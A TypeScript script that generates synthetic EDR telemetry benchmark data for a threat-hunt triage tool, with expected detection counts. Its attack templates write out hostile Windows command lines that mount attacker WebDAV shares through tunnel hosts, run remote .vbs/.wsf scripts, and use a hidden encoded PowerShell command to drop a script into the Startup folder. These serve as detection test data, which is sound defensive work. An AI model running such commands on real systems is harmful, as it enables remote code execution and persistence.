/**
 * Benchmark data: a large XSIAM-style xdr_data export with realistic selectivity.
 *
 *   npx tsx scripts/gen-bench-data.ts [--rows 100000] [--out .bench] [--force]
 *
 * Writes <out>/bench-<rows>.csv, <out>/bench-<rows>.ndjson.gz (gzip'd NDJSON, like the XQL stream
 * API) and <out>/bench-<rows>.expected.json. About 1 row in 1,000 mentions Cloudflare (hits,
 * look-alikes and near misses); rows average ~300 bytes of CSV (the reference export is 306 MB for
 * 1,000,000 rows). Rows are streamed to disk in chunks, never held in memory. The expected hit
 * counts come from the generator's own evaluator (scripts/lib/hunt-eval.ts), not from the app.
 *
 * Idempotent: when the expected file records the same parameters and both data files still have
 * the recorded sizes, nothing is regenerated (--force regenerates).
 */
import { createWriteStream, existsSync, mkdirSync, readFileSync, renameSync, statSync, writeFileSync } from 'node:fs';
import type { WriteStream } from 'node:fs';
import { once } from 'node:events';
import { join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { createGzip } from 'node:zlib';
import type { Gzip } from 'node:zlib';
import { Rng, Weighted } from './lib/prng';
import { clauseResultsBoth, compareHitOrder, singleFailure } from './lib/hunt-eval';
import type { Column, Host, HostRole, OsKind, Spec } from './lib/xdr-events';
import { csvHeader, csvRecord, makeEventId, materialize, ndjsonRecord } from './lib/xdr-events';
import type { Template, WeightRow } from './lib/background';
import { backgroundPicker, longLivedPids } from './lib/background';
import type { Single } from './lib/hunt-cases';
import { SINGLES, encodePowerShell, fill, tunnelHost } from './lib/hunt-cases';

/** Bump when the output would change for the same parameters, so old files are regenerated. */
export const BENCH_VERSION = 1;
export const BENCH_SEED = 'hunt-triage-bench-v1';
/** Sun 2025-06-29 00:00:00 UTC; the bench spans one day from here. */
export const BENCH_BASE_MS = Date.UTC(2025, 5, 29, 0, 0, 0);
const SPAN_MS = 24 * 3600_000;
/** Probability that a row is drawn from the hunt-relevant templates instead of background noise. */
const SPECIAL_RATE = 1 / 1000;
/**
 * More file and network events than the sample has: in real xdr_data they outnumber process starts,
 * and they keep the average row near the reference export's ~300 bytes.
 */
const BENCH_EXTRA_WEIGHTS: Partial<Record<HostRole, WeightRow>> = {
  workstation: { fileWrite: 24, network: 24 },
  server: { serverFile: 14, serverNetwork: 14 },
};

/** The column set of a typical hunt export (the hunt's `fields` plus the enums and system fields). */
export const BENCH_COLUMNS: readonly Column[] = [
  '_time',
  'agent_hostname',
  'agent_id',
  'agent_os_type',
  'event_type',
  'event_sub_type',
  'event_id',
  'actor_effective_username',
  'actor_process_image_name',
  'action_process_image_name',
  'action_process_image_path',
  'action_process_image_command_line',
  'causality_actor_process_image_name',
  'action_process_os_pid',
  '_product',
  '_vendor',
  '_insert_time',
];

/** _time stays text (the parse-heavy form); _insert_time is epoch ms, as some exports mix them. */
const EPOCH_COLUMNS: ReadonlySet<Column> = new Set<Column>(['_insert_time']);

export interface BenchExpected {
  version: number;
  seed: string;
  rows: number;
  columns: string[];
  files: { csv: { name: string; bytes: number }; ndjsonGz: { name: string; bytes: number; uncompressedBytes: number } };
  /** Rows whose command line mentions "cloudflare" (case-insensitive). */
  mentionsCloudflare: number;
  hitCountXql: number;
  hitCountBackslash: number;
  nearMissCountXql: number;
  nearMissCountBackslash: number;
  /** event_ids, sort desc _time. */
  hitsXql: string[];
  hitsBackslash: string[];
}

export interface BenchOptions {
  rows: number;
  outDir: string;
  force?: boolean;
}

export interface BenchResult {
  skipped: boolean;
  csvPath: string;
  ndjsonGzPath: string;
  expectedPath: string;
  expected: BenchExpected;
  elapsedMs: number;
}

const FIRST = ['anna', 'ben', 'chloe', 'daniel', 'elena', 'farid', 'grace', 'hiro', 'ines', 'jonas', 'kara', 'liam', 'maya', 'noah', 'olga', 'pavel', 'quinn', 'rosa', 'sam', 'tara', 'umar', 'vera', 'wei', 'yara', 'zoë', 'josé', 'søren', 'jürgen'];
const LAST = ['adams', 'becker', 'costa', 'dubois', 'evans', 'fischer', 'garcia', 'hansen', 'ito', 'jensen', 'kowalski', 'lopez', 'meyer', 'novak', 'okafor', 'patel', 'rossi', 'schmidt', 'tanaka', 'ueda', 'varga', 'wagner', 'núñez', 'müller', 'ølgaard'];
const DEPTS = ['fin', 'hr', 'eng', 'eng', 'it', 'sales', 'legal', 'ops', 'mkt'];

function makeFleet(rng: Rng): { hosts: Host[]; pick: Weighted<Host> } {
  const hosts: Host[] = [];
  const add = (hostname: string, os: OsKind, role: HostRole, osSubType: string, dept: string, user: string): void => {
    hosts.push({ hostname, os, role, osSubType, dept, user, agentId: rng.hex(32), pids: longLivedPids(rng) });
  };
  const person = (): string => `${rng.pick(FIRST)}.${rng.pick(LAST)}`;
  for (let i = 0; i < 400; i++) {
    const dept = rng.pick(DEPTS);
    add(`WS-${dept.toUpperCase()}-${String(100 + i).padStart(3, '0')}.corp.example`, 'windows', 'workstation', rng.chance(0.7) ? 'Windows 11 [10.0 (Build 22631)]' : 'Windows 10 [10.0 (Build 19045)]', dept, `CORP\\${person()}`);
  }
  for (let i = 0; i < 40; i++) add(`SRV-${rng.pick(['APP', 'FS', 'SQL', 'WEB', 'DC'])}${String(i + 1).padStart(2, '0')}.corp.example`, 'windows', 'server', rng.pick(['Windows Server 2019 [10.0 (Build 17763)]', 'Windows Server 2022 [10.0 (Build 20348)]']), 'srv', rng.pick(['CORP\\svc_backup', 'CORP\\svc_app', 'CORP\\svc_sql']));
  for (let i = 0; i < 20; i++) add(`lnx-${rng.pick(['build', 'web', 'k8s'])}-${String(i + 1).padStart(2, '0')}.corp.example`, 'linux', 'linux', 'Ubuntu 22.04.4 LTS', 'eng', person());
  for (let i = 0; i < 30; i++) add(`MBP-${rng.pick(['DES', 'MKT', 'ENG'])}-${String(i + 1).padStart(3, '0')}.corp.example`, 'mac', 'mac', 'macOS 14.5', 'design', person());
  const weight: Record<HostRole, number> = { workstation: 1, server: 3, linux: 1.2, mac: 0.8 };
  return { hosts, pick: new Weighted(hosts.map((h) => [h, weight[h.role]] as const)) };
}

const r = String.raw;
const attack = (template: string, expect: 'both' | 'backslash-only'): Spec['label'] => ({ category: 'attack', template, malicious: true, expect });

/** Attack lines as single events (the sample has them as whole chains). */
const ATTACK_SINGLES: Readonly<Record<string, Single>> = {
  lnkNetUse: (rng, host, sub) => [{ kind: 'process', actor: { path: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE', pid: host.pids.explorer ?? 4000 }, user: host.user, action: { path: 'C:\\Windows\\System32\\cmd.exe', cmd: fill(r`"C:\Windows\System32\cmd.exe" /c net use \\{S}@SSL\DavWWWRoot`, { S: sub }), pid: rng.pid() }, causality: 'explorer.exe', label: attack('lnk-cmd-net-use', 'both') }],
  robocopyWsf: (rng, host, sub) => [{ kind: 'process', actor: { path: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe', pid: rng.pid() }, user: host.user, action: { path: 'C:\\Windows\\System32\\cmd.exe', cmd: fill(r`cmd.exe /c robocopy "\\{S}@SSL\DavWWWRoot\x" %temp% tank.wsf /ns /nc /nfl /ndl`, { S: sub }), pid: rng.pid() }, causality: 'explorer.exe', label: attack('cmd-robocopy-wsf', 'backslash-only') }],
  wscriptUnc: (rng, host, sub) => [{ kind: 'process', actor: { path: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE', pid: host.pids.explorer ?? 4000 }, user: host.user, action: { path: 'C:\\Windows\\System32\\wscript.exe', cmd: fill(r`"C:\Windows\System32\WScript.exe" "\\{S}@SSL\DavWWWRoot\new.vbs"`, { S: sub }), pid: rng.pid(), name: 'WScript.exe' }, causality: 'explorer.exe', label: attack('wscript-new-vbs-unc', 'backslash-only') }],
  sigmaNetUseHttp: (rng, host, sub) => [{ kind: 'process', actor: { path: 'C:\\Windows\\System32\\wscript.exe', cmd: 'wscript.exe', pid: rng.pid() }, user: host.user, action: { path: 'C:\\Windows\\System32\\cmd.exe', cmd: fill(r`cmd.exe /c net use http://{S}@SSL/DavWWWRoot & start /b \\{S}@SSL\DavWWWRoot\x.vbs `, { S: sub }), pid: rng.pid() }, causality: 'explorer.exe', label: attack('cmd-net-use-http-start', 'both') }],
  encoded: (rng, host, sub) => {
    const enc = encodePowerShell(fill(r`net use \\{S}@SSL\DavWWWRoot; Copy-Item "\\{S}@SSL\DavWWWRoot\pws1.vbs" "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\"`, { S: sub }));
    return [{ kind: 'process', actor: { path: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe', pid: rng.pid() }, user: host.user, action: { path: 'C:\\Windows\\System32\\cmd.exe', cmd: fill(r`cmd.exe /c net use \\{S}@SSL\DavWWWRoot & powershell.exe -NoP -W Hidden -EncodedCommand {E}`, { S: sub, E: enc }), pid: rng.pid() }, causality: 'explorer.exe', label: attack('cmd-net-use-encodedcommand', 'both') }];
  },
};

const WINDOWS_SPECIALS: readonly (readonly [string, number])[] = [
  ['lnkNetUse', 8], ['robocopyWsf', 8], ['wscriptUnc', 8], ['sigmaNetUseHttp', 4], ['encoded', 2],
  ['adminNetUseWebdav', 2], ['devNetUseSources', 2], ['jsonEscapedUnc', 1],
  ['warpMsiFromShare', 3], ['netlogonDns', 2], ['longPathCleanup', 2], ['installCloudflaredCmd', 2],
  ['adminDavSetCookie', 3], ['pwshNetUse', 2], ['cmdTunnelLogin', 3], ['wingetCloudflared', 6], ['psWingetCloudflared', 3],
  ['warpTrace', 10], ['warpMsiLocal', 5], ['warpCli', 5], ['devQuickTunnel', 4], ['pipCloudflare', 3], ['gitCloneCloudflared', 3],
  ['httpsDownload', 3], ['fileUrlStart', 2], ['cloudflaredServiceRun', 6], ['cloudflaredServiceInstall', 2], ['cloudflaredServiceInstallPs', 2],
];
const UNIX_SPECIALS: readonly (readonly [string, number])[] = [['wineDetonation', 1], ['linuxQuickTunnel', 4], ['macTrace', 4], ['macPwshNetUse', 1]];

function special(name: string): Single {
  const f = ATTACK_SINGLES[name] ?? SINGLES[name];
  if (!f) throw new Error(`unknown special template ${name}`);
  return f;
}

function readExpected(path: string): BenchExpected | null {
  try {
    return JSON.parse(readFileSync(path, 'utf8')) as BenchExpected;
  } catch {
    return null;
  }
}

function sizeOf(path: string): number {
  return existsSync(path) ? statSync(path).size : -1;
}

/**
 * Lets up to BACKLOG bytes queue in a stream before waiting, so generation (main thread) and gzip
 * (libuv thread pool) overlap instead of taking turns; memory stays bounded by the backlog.
 */
const BACKLOG = 16 << 20;
async function write(stream: WriteStream | Gzip, chunk: string): Promise<void> {
  stream.write(chunk);
  while (stream.writableLength > BACKLOG) await once(stream, 'drain');
}

async function finish(stream: WriteStream): Promise<void> {
  stream.end();
  await once(stream, 'close');
}

/** Generates (or reuses) the benchmark files; see the file comment. */
export async function ensureBenchData(opts: BenchOptions): Promise<BenchResult> {
  const started = performance.now();
  const { rows, outDir } = opts;
  if (!Number.isInteger(rows) || rows <= 0) throw new Error(`--rows must be a positive integer, got ${rows}`);
  const base = `bench-${rows}`;
  const csvPath = join(outDir, `${base}.csv`);
  const ndjsonGzPath = join(outDir, `${base}.ndjson.gz`);
  const expectedPath = join(outDir, `${base}.expected.json`);

  const prior = opts.force ? null : readExpected(expectedPath);
  if (prior && prior.version === BENCH_VERSION && prior.seed === BENCH_SEED && prior.rows === rows && sizeOf(csvPath) === prior.files.csv.bytes && sizeOf(ndjsonGzPath) === prior.files.ndjsonGz.bytes) {
    return { skipped: true, csvPath, ndjsonGzPath, expectedPath, expected: prior, elapsedMs: performance.now() - started };
  }

  mkdirSync(outDir, { recursive: true });
  const rng = new Rng(`${BENCH_SEED}/${rows}`);
  const idRng = new Rng(`${BENCH_SEED}/${rows}/ids`);
  const { hosts, pick } = makeFleet(rng);
  const pickers = new Map<string, Weighted<Template>>();
  const pickerFor = (h: Host): Weighted<Template> => {
    const key = `${h.role}/${h.dept}`;
    let p = pickers.get(key);
    if (!p) pickers.set(key, (p = backgroundPicker(h.role, h.dept, BENCH_EXTRA_WEIGHTS[h.role])));
    return p;
  };
  const winSpecials = new Weighted(WINDOWS_SPECIALS.map(([n, w]) => [special(n), w] as const));
  const unixSpecials = new Weighted(UNIX_SPECIALS.map(([n, w]) => [[n, special(n)] as const, w] as const));
  const linuxHosts = hosts.filter((h) => h.os === 'linux');
  const macHosts = hosts.filter((h) => h.os === 'mac');
  const winHosts = hosts.filter((h) => h.os === 'windows' && h.role === 'workstation');

  const csvTmp = `${csvPath}.partial`;
  const gzTmp = `${ndjsonGzPath}.partial`;
  const csvOut = createWriteStream(csvTmp);
  const gzFile = createWriteStream(gzTmp);
  const gzip = createGzip({ level: 6, chunkSize: 64 * 1024 });
  gzip.pipe(gzFile);

  const step = Math.max(1, Math.floor(SPAN_MS / rows));
  let csvBuf = csvHeader(BENCH_COLUMNS) + '\n';
  let ndBuf = '';
  let csvBytes = 0;
  let ndBytes = 0;
  let mentions = 0;
  let nearX = 0;
  let nearB = 0;
  const hitsX: { _time: number; event_id: string }[] = [];
  const hitsB: { _time: number; event_id: string }[] = [];
  const FLUSH = 1 << 18;

  let row = 0;
  let pending: { spec: Spec; host: Host }[] = [];
  while (row < rows) {
    if (pending.length === 0) {
      let host: Host;
      let specs: Spec[];
      if (rng.float() < SPECIAL_RATE) {
        if (rng.chance(0.85)) {
          host = rng.pick(winHosts);
          specs = winSpecials.pick(rng)(rng, host, tunnelHost(rng));
        } else {
          const [name, f] = unixSpecials.pick(rng);
          host = rng.pick(name.startsWith('mac') ? macHosts : linuxHosts);
          specs = f(rng, host, tunnelHost(rng));
        }
      } else {
        host = pick.pick(rng);
        specs = pickerFor(host).pick(rng)(rng, host);
        const roll = rng.float();
        if (roll < 0.06) specs = specs.map((s) => ({ ...s, style: roll < 0.03 ? 'prefixed' : 'numeric' }));
      }
      pending = specs.map((spec) => ({ spec, host }));
    }
    const next = pending.shift() as { spec: Spec; host: Host };
    const t = BENCH_BASE_MS + row * step + rng.int(step);
    const ev = materialize(next.spec, next.host, t, rng.range(300, 45_000), makeEventId(t, row, idRng));
    const cmd = ev.action_process_image_command_line;
    if (cmd !== null && cmd.toLowerCase().includes('cloudflare')) mentions++;
    const both = clauseResultsBoth(ev);
    const fx = singleFailure(both.xql);
    const fb = singleFailure(both.backslash);
    if (fx === -1) hitsX.push({ _time: t, event_id: ev.event_id });
    else if (fx !== null) nearX++;
    if (fb === -1) hitsB.push({ _time: t, event_id: ev.event_id });
    else if (fb !== null) nearB++;
    csvBuf += csvRecord(ev, BENCH_COLUMNS, EPOCH_COLUMNS) + '\n';
    ndBuf += ndjsonRecord(ev, BENCH_COLUMNS) + '\n';
    row++;
    if (csvBuf.length > FLUSH || row === rows) {
      csvBytes += Buffer.byteLength(csvBuf);
      ndBytes += Buffer.byteLength(ndBuf);
      await write(csvOut, csvBuf);
      await write(gzip, ndBuf);
      csvBuf = '';
      ndBuf = '';
    }
  }
  gzip.end();
  await Promise.all([finish(csvOut), once(gzFile, 'close')]);
  renameSync(csvTmp, csvPath);
  renameSync(gzTmp, ndjsonGzPath);

  hitsX.sort(compareHitOrder);
  hitsB.sort(compareHitOrder);
  const expected: BenchExpected = {
    version: BENCH_VERSION,
    seed: BENCH_SEED,
    rows,
    columns: [...BENCH_COLUMNS],
    files: { csv: { name: `${base}.csv`, bytes: sizeOf(csvPath) }, ndjsonGz: { name: `${base}.ndjson.gz`, bytes: sizeOf(ndjsonGzPath), uncompressedBytes: ndBytes } },
    mentionsCloudflare: mentions,
    hitCountXql: hitsX.length,
    hitCountBackslash: hitsB.length,
    nearMissCountXql: nearX,
    nearMissCountBackslash: nearB,
    hitsXql: hitsX.map((h) => h.event_id),
    hitsBackslash: hitsB.map((h) => h.event_id),
  };
  if (expected.files.csv.bytes !== csvBytes) throw new Error(`CSV size mismatch: wrote ${csvBytes}, file has ${expected.files.csv.bytes}`);
  // Written last: its presence (with matching sizes) is what marks the data files complete.
  writeFileSync(expectedPath, JSON.stringify(expected, null, 2) + '\n');
  return { skipped: false, csvPath, ndjsonGzPath, expectedPath, expected, elapsedMs: performance.now() - started };
}

const REPO_ROOT = fileURLToPath(new URL('..', import.meta.url));

function arg(argv: readonly string[], name: string): string | undefined {
  const i = argv.indexOf(name);
  return i >= 0 ? argv[i + 1] : undefined;
}

async function main(argv: readonly string[]): Promise<void> {
  const rows = Number(arg(argv, '--rows') ?? 100_000);
  const outDir = resolve(REPO_ROOT, arg(argv, '--out') ?? '.bench');
  const res = await ensureBenchData({ rows, outDir, force: argv.includes('--force') });
  const e = res.expected;
  const mb = (n: number): string => (n / 1e6).toFixed(1);
  console.log(res.skipped ? `up to date (same parameters): ${res.expectedPath}` : `generated ${e.rows} rows in ${(res.elapsedMs / 1000).toFixed(1)} s`);
  console.log(`${res.csvPath}  ${mb(e.files.csv.bytes)} MB (${Math.round(e.files.csv.bytes / e.rows)} bytes/row)`);
  console.log(`${res.ndjsonGzPath}  ${mb(e.files.ndjsonGz.bytes)} MB gzip (${mb(e.files.ndjsonGz.uncompressedBytes)} MB NDJSON)`);
  console.log(`${res.expectedPath}`);
  console.log(`rows mentioning cloudflare: ${e.mentionsCloudflare} (1 in ${Math.round(e.rows / Math.max(1, e.mentionsCloudflare))})`);
  console.log(`expected hits: ${e.hitCountXql} (xql reading), ${e.hitCountBackslash} (backslash reading)`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  main(process.argv.slice(2)).catch((err: unknown) => {
    console.error(err instanceof Error ? err.message : err);
    process.exit(1);
  });
}
